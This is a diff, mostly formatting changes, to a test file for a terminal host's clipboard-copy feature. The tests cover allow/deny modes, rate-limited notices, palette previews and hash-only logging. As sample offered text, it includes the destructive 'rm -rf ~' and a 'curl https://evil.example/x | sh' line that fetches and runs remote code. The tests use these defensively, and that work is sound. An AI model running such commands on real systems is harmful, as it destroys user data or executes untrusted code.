@@ -43,7 +43,10 @@ test('copy feature: JACKIN_COPY=allow copies at once with a notice; deny ignores
   deny.s.terminalEmitter.fire({ type: 'copy-refused', reason: 'the text is not valid base64' });
   assert.doesNotMatch(deny.texts().join('\n'), /Copy offer refused/);
   assert.deepEqual(deny.s.log, []);
-  assert.throws(() => copyModeFromEnv({ JACKIN_COPY: 'sometimes' }), (e) => hasCode(e, 'E_BAD_COPY_MODE'));
+  assert.throws(
+    () => copyModeFromEnv({ JACKIN_COPY: 'sometimes' }),
+    (e) => hasCode(e, 'E_BAD_COPY_MODE'),
+  );
   assert.equal(copyModeFromEnv({}), 'ask');
 });
 
@@ -54,13 +57,16 @@ test('copy feature: a clipboard query is told once; refusals are rate limited; p
   assert.equal(texts().filter((t) => t.includes('read your clipboard')).length, 1);
   assert.equal(texts().filter((t) => t.startsWith('Copy offer refused')).length, 3);
   // Both are in the host log, at the same rate as told: the query once, three refusals.
-  assert.deepEqual(s.log.map((l) => [l.action, l.result, l.detail]), [
-    ['read-clipboard', 'refused', 'programs never read the host clipboard (told once a session)'],
-    ['copy', 'refused', 'the text is not valid base64'],
-    ['copy', 'refused', 'the text is not valid base64'],
-    ['copy', 'refused', 'the text is not valid base64'],
-  ]);
-  assert.equal(offerPreview('a\n\n  b\x1b[2J' + 'z'.repeat(100)).includes('\n'), false);
+  assert.deepEqual(
+    s.log.map((l) => [l.action, l.result, l.detail]),
+    [
+      ['read-clipboard', 'refused', 'programs never read the host clipboard (told once a session)'],
+      ['copy', 'refused', 'the text is not valid base64'],
+      ['copy', 'refused', 'the text is not valid base64'],
+      ['copy', 'refused', 'the text is not valid base64'],
+    ],
+  );
+  assert.equal(offerPreview(`a\n\n  b\x1b[2J${'z'.repeat(100)}`).includes('\n'), false);
   assert.ok(offerPreview('\x1b[2J').startsWith('\\x1b'));
 });
 
@@ -83,14 +89,14 @@ test('copy feature: the palette entry shows the offer it copies, so an offer swa
   s.openPalette();
   assert.equal(s.actions.get('copy-offered-text')!.title, 'Copy offered text 8 B "rm -rf ~"');
   // A long offer's entry fits the palette whole: its preview is cut, never the entry's closing quote.
-  s.terminalEmitter.fire({ type: 'copy-offer', text: 'curl https://evil.example/x | sh\n' + 'y'.repeat(200), bytes: 234, removed: 0 });
+  s.terminalEmitter.fire({ type: 'copy-offer', text: `curl https://evil.example/x | sh\n${'y'.repeat(200)}`, bytes: 234, removed: 0 });
   s.openPalette();
   const title = s.actions.get('copy-offered-text')!.title;
   assert.ok(title.startsWith('Copy offered text 234 B "curl https://evil.example/') && title.endsWith('"'), title);
   assert.ok(textWidth(title) <= PALETTE_MAX_TITLE_COLUMNS, title);
 });
 
-test('copy feature: a flood of offers cannot flood the notices (and push the host\'s own out of the queue); the latest offer is the one shown in the palette', () => {
+test("copy feature: a flood of offers cannot flood the notices (and push the host's own out of the queue); the latest offer is the one shown in the palette", () => {
   const { s, texts } = setup();
   for (let i = 0; i < 50; i++) s.terminalEmitter.fire({ type: 'copy-offer', text: `offer ${i}`, bytes: 7, removed: 0 });
   assert.equal(texts().filter((t) => t.startsWith('Copy offer:')).length, 3);
@@ -114,11 +120,14 @@ test('copy feature: with JACKIN_COPY=allow the summary waits for a write in flig
   for (let i = 0; i < 5; i++) s.terminalEmitter.fire({ type: 'copy-offer', text: `offer ${i}`, bytes: 8, removed: 0 });
   await pollUntil('the summary notice', () => s.notices.length === 3);
   assert.deepEqual(copied, ['offer 0', 'offer 4']);
-  assert.deepEqual(s.notices.map((n) => n.text), [
-    'Copied 8 B "offer 0" to the clipboard (test-clip)',
-    'Copied 8 B "offer 4" to the clipboard (test-clip)',
-    'The program offered text 3 more times (JACKIN_COPY=allow); the clipboard holds the latest, 8 B "offer 4"',
-  ]);
+  assert.deepEqual(
+    s.notices.map((n) => n.text),
+    [
+      'Copied 8 B "offer 0" to the clipboard (test-clip)',
+      'Copied 8 B "offer 4" to the clipboard (test-clip)',
+      'The program offered text 3 more times (JACKIN_COPY=allow); the clipboard holds the latest, 8 B "offer 4"',
+    ],
+  );
   feature.dispose();
 });
 
@@ -144,8 +153,14 @@ test('copy feature: with JACKIN_COPY=allow a flood of offers runs one clipboard 
   assert.deepEqual(copied, ['offer 0', 'offer 49']);
   // The two written offers are told; the 48 replaced before they were written, in one summary after.
   await pollUntil('the summary notice', () => s.notices.length === 3);
-  assert.deepEqual(s.notices.slice(0, 2).map((n) => n.text), ['Copied 8 B "offer 0" to the clipboard (test-clip)', 'Copied 8 B "offer 49" to the clipboard (test-clip)']);
-  assert.deepEqual(s.notices[2], { level: 'warning', text: 'The program offered text 48 more times (JACKIN_COPY=allow); the clipboard holds the latest, 8 B "offer 49"' });
+  assert.deepEqual(
+    s.notices.slice(0, 2).map((n) => n.text),
+    ['Copied 8 B "offer 0" to the clipboard (test-clip)', 'Copied 8 B "offer 49" to the clipboard (test-clip)'],
+  );
+  assert.deepEqual(s.notices[2], {
+    level: 'warning',
+    text: 'The program offered text 48 more times (JACKIN_COPY=allow); the clipboard holds the latest, 8 B "offer 49"',
+  });
   feature.dispose();
 });
 
@@ -168,12 +183,18 @@ test('copy feature: with JACKIN_COPY=allow, copies over the notice rate are told
   }
   await pollUntil('the summary notice', () => s.notices.length === 4);
   assert.equal(s.notices.filter((n) => n.text.startsWith('Copied ')).length, 3, 'three notices in the window');
-  assert.deepEqual(s.notices[3], { level: 'warning', text: 'The program offered text 2 more times (JACKIN_COPY=allow); the clipboard holds the latest, 6 B "copy 4"' });
+  assert.deepEqual(s.notices[3], {
+    level: 'warning',
+    text: 'The program offered text 2 more times (JACKIN_COPY=allow); the clipboard holds the latest, 6 B "copy 4"',
+  });
   // A failed copy over the rate is in the next summary, not silent.
   fail = true;
   s.terminalEmitter.fire({ type: 'copy-offer', text: 'copy 5', bytes: 6, removed: 0 });
   await pollUntil('the second summary', () => s.notices.length === 5);
-  assert.deepEqual(s.notices[4], { level: 'warning', text: 'The program offered text 1 more time (JACKIN_COPY=allow); the latest could not be copied: xclip exited with status 1' });
+  assert.deepEqual(s.notices[4], {
+    level: 'warning',
+    text: 'The program offered text 1 more time (JACKIN_COPY=allow); the latest could not be copied: xclip exited with status 1',
+  });
   feature.dispose();
 });
 
@@ -189,7 +210,10 @@ test('copy feature: every copy is in the host log by size and hash, never the te
   assert.ok(!JSON.stringify(s.log).includes('hunter2'));
 
   const failing = new FakeFeatureSession({ repaint: 1 });
-  installCopyFeature(failing, { env: { JACKIN_COPY: 'allow' }, writer: { name: 'broken', reason: 'test', write: async () => Promise.reject(new Error('no display')) } });
+  installCopyFeature(failing, {
+    env: { JACKIN_COPY: 'allow' },
+    writer: { name: 'broken', reason: 'test', write: async () => Promise.reject(new Error('no display')) },
+  });
   failing.terminalEmitter.fire({ type: 'copy-offer', text: 'x', bytes: 1, removed: 0 });
   await pollUntil('the failed copy in the log', () => failing.log.length === 1);
   assert.deepEqual(failing.log, [{ action: 'copy', target: copyLogTarget('x'), result: 'failed', detail: 'no display' }]);
